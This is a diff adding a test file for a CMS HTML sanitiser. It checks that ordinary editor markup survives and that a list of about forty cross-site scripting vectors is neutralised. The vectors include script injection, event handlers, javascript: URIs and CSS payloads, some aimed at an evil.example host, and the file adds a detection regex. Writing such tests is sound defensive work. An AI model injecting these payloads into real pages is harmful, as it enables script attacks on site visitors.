@@ -1,0 +1,122 @@
+// What the editor makes is kept; what a browser would run never reaches storage.
+import fc from 'fast-check'
+import { expect, test } from 'vitest'
+import { hasContent, sanitiseBody, textOfBody } from '../../../../src/server/features/cms/article/sanitise-body.ts'
+
+test.each([
+  '<p style="text-align:center;text-indent:2em">段<strong>落</strong></p>',
+  '<p class="ql-align-center ql-indent-2">段落</p>',
+  '<h2>标题</h2><blockquote><p>引用</p></blockquote>',
+  '<ol><li data-list="bullet">项</li></ol>',
+  '<table border="1" width="100%"><tbody><tr><td colspan="2" style="width:50%">格</td></tr></tbody></table>',
+  '<p><img src="/site/demo/assets/a.png" alt="图" width="100" /></p>',
+  '<p><img src="data:image/png;base64,iVBORw0KGgo=" /></p>',
+  '<video src="/uploads/a.mp4" controls="controls" poster="/uploads/a.jpg"></video>',
+  '<audio src="https://example.com/a.mp3" controls="controls"></audio>',
+  '<p><a href="https://example.com/?a=1&amp;b=2">链接</a> <a href="mailto:a@example.com">信</a></p>',
+  '<p><span style="color:rgb(255, 0, 0);background-color:#ff0;font-size:18px">彩</span></p>',
+])('%s is kept', async (html) => {
+  expect(await sanitiseBody(html)).toBe(html)
+})
+
+test('a link that opens a window is cut off from the page that opened it', async () => {
+  expect(await sanitiseBody('<a href="https://example.com/" target="_blank">x</a>')).toBe(
+    '<a href="https://example.com/" target="_blank" rel="noopener noreferrer">x</a>',
+  )
+})
+
+const vectors = [
+  '<script>alert(1)</script>',
+  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="x" onerror="alert(1)" / >',
+  '<svg onload=alert(1)><script>alert(1)</script></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+  '<math><mi xlink:href="data:text/html,<script>alert(1)</script>">x</mi></math>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href=" java\nscript:alert(1)">x</a>',
+  '<a href="&#106;avascript:alert(1)">x</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<iframe src="https://evil.example/"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="x.swf"></object><embed src="x.swf">',
+  '<form action="https://evil.example/"><input name="a"><button formaction="javascript:alert(1)">x</button></form>',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<style>body{background:url(javascript:alert(1))}</style>',
+  '<div style="background:url(javascript:alert(1))">x</div>',
+  '<div style="background-image:url(https://evil.example/t.gif)">x</div>',
+  '<div style="width:expression(alert(1))">x</div>',
+  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</div>',
+  '<div style="-moz-binding:url(x)">x</div>',
+  '<div style="border:1px solid url(javascript:alert(1))">x</div>',
+  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>',
+  '<video poster="javascript:alert(1)" src="javascript:alert(1)"></video>',
+  '<video><source onerror="alert(1)"></video>',
+  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
+  '<img src="javascript:alert(1)">',
+  '<img srcset="javascript:alert(1) 1x">',
+  '<details open ontoggle=alert(1)>x</details>',
+  '<p id="x" name="y" contenteditable onfocus=alert(1) autofocus>x</p>',
+  '<template><script>alert(1)</script></template>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<!--<img src="--><img src=x onerror=alert(1)//">',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '<p><<script>alert(1)//<</script>',
+  '<xmp><script>alert(1)</script></xmp>',
+  '<textarea></textarea><script>alert(1)</script>',
+  '<a href="https://example.com" onmouseover="alert(1)" ping="https://evil.example">x</a>',
+]
+
+const dangerous =
+  /<\s*(?:script|style|iframe|object|embed|form|input|button|base|meta|link|svg|math|template|textarea|xmp|noscript)\b|<[^>]*\son\w+\s*=|<[^>]*(?:javascript|vbscript|expression)\s*[:(]|<[^>]*\burl\s*\(|data:text|svg\+xml|position\s*:|z-index|<[^>]*\b(?:srcset|ping|srcdoc|formaction|background)=/i
+
+test.each(vectors)('%s is made harmless', async (html) => {
+  const clean = await sanitiseBody(html)
+  expect(clean).not.toMatch(dangerous)
+  expect(await sanitiseBody(clean)).toBe(clean)
+})
+
+test('cleaning twice changes nothing, whatever was sent', async () => {
+  const pieces = [
+    ...vectors,
+    '<p>',
+    '</p>',
+    '<b',
+    '"',
+    "'",
+    '>',
+    '&lt;',
+    '&#x3c;',
+    '字',
+    '<td>',
+    '<!--',
+    '-->',
+    '\u0000',
+  ]
+  const html = fc.array(fc.oneof(fc.constantFrom(...pieces), fc.string({ maxLength: 12 })), { maxLength: 8 })
+  await fc.assert(
+    fc.asyncProperty(html, async (parts) => {
+      const clean = await sanitiseBody(parts.join(''))
+      expect(clean).not.toMatch(dangerous)
+      expect(await sanitiseBody(clean)).toBe(clean)
+    }),
+    { numRuns: 300 },
+  )
+})
+
+test('the text of a body is one line, without markup', () => {
+  expect(textOfBody('<h2>题</h2><p>一&nbsp;&lt;二&gt;<br/>三</p>')).toBe('题 一 <二> 三')
+})
+
+test.each([
+  ['<p><br /></p>', false],
+  ['<p>&nbsp;</p>', false],
+  ['<p>字</p>', true],
+  ['<p><img src="/a.png" /></p>', true],
+  ['<table><tbody></tbody></table>', true],
+])('%s has content: %s', (html, expected) => {
+  expect(hasContent(html)).toBe(expected)
+})
